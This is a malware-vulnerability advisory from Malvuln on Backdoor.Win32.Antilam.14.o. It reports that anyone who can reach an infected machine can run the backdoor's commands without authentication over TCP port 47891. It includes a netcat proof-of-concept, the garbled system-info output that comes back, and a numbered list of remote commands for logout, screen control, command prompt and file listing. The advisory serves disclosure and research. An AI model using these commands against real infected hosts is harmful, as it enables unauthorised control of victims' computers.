Backdoor.Win32.Antilam.14.o / Unauthenticated Remote Command Execution

usmalvuln (US) us
Risk: Medium
Local: No
Remote: Yes

Discovery / credits: Malvuln - (c) 2021 Original source: Contact: Media: Threat: Backdoor.Win32.Antilam.14.o Vulnerability: Unauthenticated Remote Command Execution Description:The malware listens on TCP ports 47891 and 29559. Third party attackers who can reach infected systems can execute commands made available by the backdoor. Netcat utility worked the best for running commands, which are supplied as numeric values orhex characters. The values sent correspond to different commands mapped in the backdoor. Example, to get the date/time we can enter 015 or the hex value 0xF. Type: PE32 MD5: 3f3ee9dce39e816b4001bd6ae66e8f1a Vuln ID: MVID-2021-0121 Dropped files: scandisk.exe Disclosure: 03/06/2021 Exploit/PoC: nc64.exe x.x.x.x 47891 001 + Enter (Gets system info) 001╧α∩Ωα Windows: C:\WINDOWS ╧α∩Ωα System: ╧α∩Ωα Temp: C:\Users\victim\AppData\Local\Temp\ ┬σ≡±ΦWindows: Windows NT 6.2 9200 ╠Φφ≤≥ Γ Windows: 15 ╚∞Ωε∞∩α: DESKTOP-3A2IQHO ╚∞■τσ≡α: victim ▀τ√Ω Windows: English (United States) 1554x840 NumLock: Off CapsLock: ScrollLock: Off ≡εΦπ≡√ΓαφΦσ τΓ≤Ωα: ─α ╤ΓεßεΣφεσ ∞σ±≥ε φα 2,554,454,016 ╒ε±≥: DESKTOP-3A2IQHO ╩δΦσφ≥εΓ ∩εΣΩδ■≈σφε: 7 Other commands: 004 TaskBar 007 Monitor 008 Ctrl+Alt+Del 009 ScrollLock 010 or 0xA (HEX) CapsLock 011 NumLock 012 CD-ROM 015 or 0xF(HEX) GetDate/Time 018 Mouse has been unlocked 022 Shell Experience HostCommand Prompt Promptrator) 029 lists current dir malware is running from 033 (logout the remote system) 082 exit netcat session 111 lists file C:\Users\victim\AppData\Local\Temp\scrsm.src 115 starts packman animation that eats the screen 116 stops packman animation 120 Web browser Disclaimer: The information contained within this advisory is supplied "as-is" with no warranties or guarantees of fitness of use or otherwise. Permission is hereby granted for the redistribution of this advisory, provided that it is not altered except by reformatting it, and that due credit is given. Permission is explicitly given for insertion in vulnerability databases and similar, provided that due credit is given to the author. The author is not responsible for any misuse of the information contained herein and accepts no responsibility for any damage caused by the use or misuse of this information. The author prohibits any malicious use of security related information or exploits by the author or elsewhere. Do not attempt to download Malware samples. The author of this website takes no responsibility for any kind of damages occurring from improper Malware handling or thedownloading of ANY Malware mentioned on this website or elsewhere. All content Copyright (c) (TM).

Votefor this issue:


Thanks for you vote!


Thanks for you comment!
Your message is in quarantine 48 hours.

Comment it here.

(*) - required fields.
{{x.nick }} | Date: {{ x.ux * 1000 | date:'yyyy-MM-dd' }} {{ x.ux * 1000 | date:'HH:mm' }} CET+1
{{ x.comment}}

Copyright 2021,


Back to Top